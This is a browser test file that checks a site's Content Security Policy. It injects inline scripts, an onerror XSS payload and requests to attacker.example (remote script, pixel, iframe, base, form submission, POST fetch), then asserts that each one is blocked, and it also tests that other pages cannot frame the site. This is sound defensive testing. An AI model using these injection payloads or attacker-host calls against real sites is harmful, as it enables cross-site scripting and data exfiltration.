import { pathOf } from "../../built/site";
import { DESKTOP, address, sharedBrowser } from "../../browser/site";

/*
 * What the Content Security Policy refuses. All tests of this group run under it, and browser/every-page.test.ts shows that no page
 * violates it.
 */

const browser = sharedBrowser();

const TERMS = pathOf("booking-terms");

/** Elements that an attacker would add to a page, by the directive that refuses them. */
const ATTACKS: readonly (readonly [directive: string, tag: string, properties: Readonly<Record<string, string>>])[] = [
  ["require-trusted-types-for", "script", { text: "window.attacked = true" }],
  ["require-trusted-types-for", "script", { src: "https://attacker.example/a.js" }],
  ["require-trusted-types-for", "div", { innerHTML: "<img src=x onerror='window.attacked = true'>" }],
  ["style-src", "style", { textContent: "body { display: none }" }],
  ["img-src", "img", { src: "https://attacker.example/pixel.gif" }],
  ["frame-src", "iframe", { src: "https://attacker.example/" }],
  ["base-uri", "base", { href: "https://attacker.example/" }],
  ["form-action", "form", { action: "https://attacker.example/" }],
];

test("the policy refuses what an attacker adds to a page, and requests to another site", async () => {
  const page = await browser.visit(TERMS, DESKTOP);
  for (const [directive, ...element] of ATTACKS) {
    const violated = await page.evaluate(
      ([name, attributes]) =>
        new Promise<string>((resolve) => {
          document.addEventListener(
            "securitypolicyviolation",
            ({ effectiveDirective }) => {
              resolve(effectiveDirective);
            },
            { once: true },
          );
          const added = document.createElement(name);
          document.body.append(added);
          try {
            Object.assign(added, attributes);
          } catch {
            // Trusted Types throw as well as report.
          }
          if (added instanceof HTMLFormElement) {
            added.submit();
          }
        }),
      element,
    );
    expect([...element, violated]).toEqual([...element, expect.stringContaining(directive)]);
  }
  expect(await page.evaluate(() => "attacked" in window)).toBe(false);
  const refused = page.waitForEvent("console", (message) => message.text().includes("connect-src"));
  await page.evaluate(() => fetch("https://attacker.example/", { method: "POST" }).catch(() => undefined));
  await refused;
});

test("what is injected into the HTML on its way neither runs nor styles", async () => {
  const page = await browser.newPage(DESKTOP);
  await page.route(address(TERMS), async (route) => {
    const response = await route.fetch();
    const injected = `<script>window.attacked = true</script><img src="/x" onerror="window.attacked = true"><style>h1 { display: none }</style>`;
    await route.fulfill({ response, body: (await response.text()).replace("</body>", `${injected}</body>`) });
  });
  await page.goto(address(TERMS), { waitUntil: "load" });
  expect(await page.locator("style").last().textContent()).toContain("display: none");
  expect(await page.evaluate(() => "attacked" in window)).toBe(false);
  expect(await page.locator("h1").isVisible()).toBe(true);
});

test("no other page can show the site in a frame", async () => {
  const page = await browser.newPage(DESKTOP);
  await page.route(address("/frame"), (route) => route.fulfill({ contentType: "text/html", body: `<iframe src="/"></iframe>` }));
  const refused = page.waitForEvent("console", (message) => message.text().includes("frame-ancestors"));
  await page.goto(address("/frame"));
  await refused;
  expect(page.frames().map((frame) => frame.url())).not.toContain(address("/"));
});
